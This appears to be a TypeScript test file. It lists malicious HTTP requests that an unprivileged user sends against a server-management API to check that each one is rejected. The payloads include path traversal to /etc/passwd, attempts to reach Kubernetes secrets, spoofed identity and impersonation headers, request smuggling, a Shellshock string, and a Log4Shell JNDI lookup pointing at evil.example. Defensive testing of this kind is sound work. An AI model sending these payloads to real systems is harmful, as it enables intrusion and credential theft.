import type { WireAttack } from './attack.ts'
import { ALICES_SERVER, API, message, namespaceOf, PREFIX, tokenOf } from './known.ts'

/** Each target, asked for with these methods by mallory, who has nothing. */
function targets(answers: string, methods: string[], cases: Record<string, string>): WireAttack[] {
  return Object.entries(cases).flatMap(([tries, target]) =>
    methods.map((method) => ({
      tries: methods.length > 1 ? `${tries} (${method})` : tries,
      send: () => message({ method, target }),
      answers,
    })),
  )
}

/** Headers beside a good request of mallory for her own list, which is empty. */
function headers(answers: string, cases: Record<string, string[]>): WireAttack[] {
  return Object.entries(cases).map(([tries, lines]) => ({
    tries,
    send: () => message({ target: `${API}/servers`, headers: lines }),
    answers,
  }))
}

const SERVERS = `${API}/servers`
const MINE = `${SERVERS}/${ALICES_SERVER}`

/** Addresses and headers that name what belongs to alice, or that two readers would read differently. */
export const pathAttacks: WireAttack[] = [
  ...targets('server_not_found', ['GET', 'DELETE'], {
    "reach alice's server by its name": MINE,
    "reach alice's server by a whole URL": `http://rexec.test${MINE}`,
    "reach alice's server by its Job": `${SERVERS}/rexec-${ALICES_SERVER}`,
    "reach alice's server by her namespace": `${SERVERS}/${namespaceOf('alice')}`,
    "reach alice's server by her name": `${SERVERS}/alice`,
    'reach a server called as a method is': `${SERVERS}/constructor`,
  }),
  ...targets('server_not_found', ['GET'], {
    "read alice's log": `${MINE}/logs`,
    "follow alice's log": `${MINE}/logs?follow=true`,
    "follow alice's server": `${MINE}/events`,
    'use a selector': `${SERVERS}/a,b`,
    'use a wildcard': `${SERVERS}/*`,
    'use two dots': `${SERVERS}/..`,
    'use two dots, escaped': `${SERVERS}/%2e%2e`,
    'use two dots, escaped twice': `${SERVERS}/%252e%252e`,
    'use a slash, escaped': `${SERVERS}/alice%2f${ALICES_SERVER}`,
    'use a backslash': `${SERVERS}/alice\\${ALICES_SERVER}`,
    'use a backslash, escaped': `${SERVERS}/alice%5c${ALICES_SERVER}`,
    'use NUL, escaped': `${SERVERS}/${ALICES_SERVER}%00`,
    'use a newline, escaped': `${SERVERS}/${ALICES_SERVER}%0a`,
    'use a space, escaped': `${SERVERS}/${ALICES_SERVER}%20`,
    'use capitals': `${SERVERS}/${ALICES_SERVER.toUpperCase()}`,
    'use a full-width letter, escaped': `${SERVERS}/%EF%BD%81lices-lab`,
    'go up to a namespace': `${SERVERS}/..%2f..%2fnamespaces%2fkube-system`,
    'use the prototype': `${SERVERS}/__proto__`,
    'use a name of 64 characters': `${SERVERS}/${'a'.repeat(64)}`,
    'use a parameter of a path': `${MINE};user=alice`,
    'use a question mark, escaped': `${MINE}%3fx`,
  }),
  ...targets('query_invalid', ['GET', 'DELETE'], {
    'name a user in the query': `${MINE}?user=alice`,
    'name a namespace in the query': `${MINE}?namespace=${namespaceOf('alice')}`,
    'name an owner twice in the query': `${MINE}?owner=mallory&owner=alice`,
  }),
  ...targets('query_invalid', ['GET'], {
    'select by a label in the query': `${SERVERS}?labelSelector=rexec.dev%2Fserver`,
    'name all namespaces in the query': `${SERVERS}?all=true`,
    'override the method in the query': `${SERVERS}?_method=DELETE`,
    'follow a log by another word': `${MINE}/logs?follow=yes`,
    'set the prototype in the query': `${SERVERS}?__proto__[user]=alice`,
  }),
  ...targets('not_found', ['GET', 'POST', 'DELETE'], {
    'go up to the root': `${API}/servers/../user`,
    'go up to the root, escaped': `${API}/servers/%2e%2e/user`,
    'go up beyond the prefix': `${PREFIX}/../../etc/passwd`,
    'use two slashes': `${PREFIX}//api/v1/servers`,
    'begin with two slashes': `/${API}/servers`,
    'end with a slash': `${SERVERS}/${ALICES_SERVER}/x`,
    'escape a slash of the address': `${PREFIX}%2fapi/v1/servers`,
    'use backslashes': `${PREFIX}\\api\\v1\\servers`,
    'use another case': `${PREFIX}/API/v1/servers`,
    'use another version': `${PREFIX}/api/v2/servers`,
    'leave out the prefix': '/api/v1/servers',
    'use NUL': `${SERVERS}%00`,
    'reach the API of Kubernetes': '/api/v1/namespaces/kube-system/secrets',
    'reach the API of Kubernetes below the prefix': `${PREFIX}/api/v1/namespaces/kube-system/secrets`,
    'reach a log of a pod': `${PREFIX}/api/v1/namespaces/${namespaceOf('alice')}/pods/x/log`,
    'reach the metrics': `${PREFIX}/metrics`,
    'reach the debugger': `${PREFIX}/debug/pprof`,
    'use a part that cannot be decoded': `${SERVERS}/%`,
    'use half a letter': `${SERVERS}/%c3`,
    'use too many bytes for a letter': `${SERVERS}/%c0%ae%c0%ae`,
    'use a part longer than any name': `${SERVERS}/${'a'.repeat(2000)}`,
  }),
  ...targets('not_found', ['GET'], {
    'read a file through the docs': `${PREFIX}/docs/static/../../../package.json`,
    'read a file through the docs, escaped': `${PREFIX}/docs/static/..%2f..%2f..%2fpackage.json`,
    'read a file through the docs by backslashes': `${PREFIX}/docs/static/..%5c..%5cpackage.json`,
    'read an absolute file through the docs': `${PREFIX}/docs/static//etc/passwd`,
    'name another host': 'http://evil.example/etc/passwd',
    'be passed on to the API server': 'https://kubernetes.default.svc/api/v1/secrets',
  }),
  ...targets('method_not_allowed', ['PUT', 'PATCH', 'OPTIONS', 'TRACE'], {
    'use another method on a server': MINE,
    'use another method on the list': SERVERS,
  }),
  ...targets('request_malformed', ['EVIL', 'get', 'PRI'], { 'use a method that is none': SERVERS }),
  ...targets('headers_too_large', ['GET'], { 'use a very long address': `${SERVERS}/${'a'.repeat(40_000)}` }),
  ...headers('200', {
    'claim a user as a proxy does': ['X-Forwarded-User: alice'],
    'claim a user as another proxy does': ['X-Remote-User: alice', 'X-Remote-Group: system:masters'],
    'claim a user as an authenticator does': ['X-Auth-Request-User: alice', 'Remote-User: alice'],
    'impersonate as Kubernetes does': ['Impersonate-User: alice', 'Impersonate-Group: system:masters'],
    'claim to come from this machine': [
      'X-Forwarded-For: 127.0.0.1',
      'X-Real-IP: 127.0.0.1',
      'Forwarded: for=_x',
    ],
    'claim another address': ['X-Original-URL: /services/rexec/healthz', 'X-Rewrite-URL: /'],
    'claim another prefix': [
      'X-Forwarded-Prefix: /evil',
      'X-Script-Name: /evil',
      'X-Forwarded-Host: evil.example',
    ],
    'override the method': [
      'X-HTTP-Method-Override: DELETE',
      'X-Method-Override: DELETE',
      'X-HTTP-Method: DELETE',
    ],
    'name the token as one to be taken out': ['Connection: authorization'],
    'show another token to a proxy': [`Proxy-Authorization: Bearer ${tokenOf('alice')}`],
    'show another token by another header': [
      `X-Auth-Token: ${tokenOf('alice')}`,
      `X-Api-Key: ${tokenOf('alice')}`,
    ],
    'show another token in a cookie': [`Cookie: token=${tokenOf('alice')}; jupyterhub-session-id=x`],
    'come from another site': ['Origin: https://evil.example', 'Referer: https://evil.example/'],
    'name its own request': ['X-Request-Id: ../../etc/passwd'],
    // biome-ignore lint/suspicious/noTemplateCurlyInString: what is sent
    'run code by a header': ['X-Api-Version: ${jndi:ldap://evil.example/a}', 'User-Agent: () { :; }; id'],
  }),
  ...headers('request_malformed', {
    'end a line early': ['X-A: a\rX-B: b'],
    'end a line by LF alone': ['X-A: a\nX-B: b'],
    'put NUL into a header': ['X-A: a\0b'],
    'put a space before a colon': ['X-A : b'],
    'put a space into a name': ['X A: b'],
    'leave out the name': [': b'],
    'leave out the colon': ['X-A'],
    'fold a header': ['X-A: a', ' b'],
    'name two hosts': ['Host: evil.example'],
    'name two lengths': ['Content-Length: 0', 'Content-Length: 5'],
    'name a negative length': ['Content-Length: -1'],
    'name a length with a plus': ['Content-Length: +5'],
    'name a hexadecimal length': ['Content-Length: 0x5'],
    'name a length beyond all numbers': ['Content-Length: 99999999999999999999999999'],
  }),
  ...headers('headers_too_large', {
    'send far too long a header': [`X-A: ${'x'.repeat(40_000)}`],
    'send far too many headers': Array.from({ length: 5000 }, (_, index) => `X-${index}: x`),
  }),
]
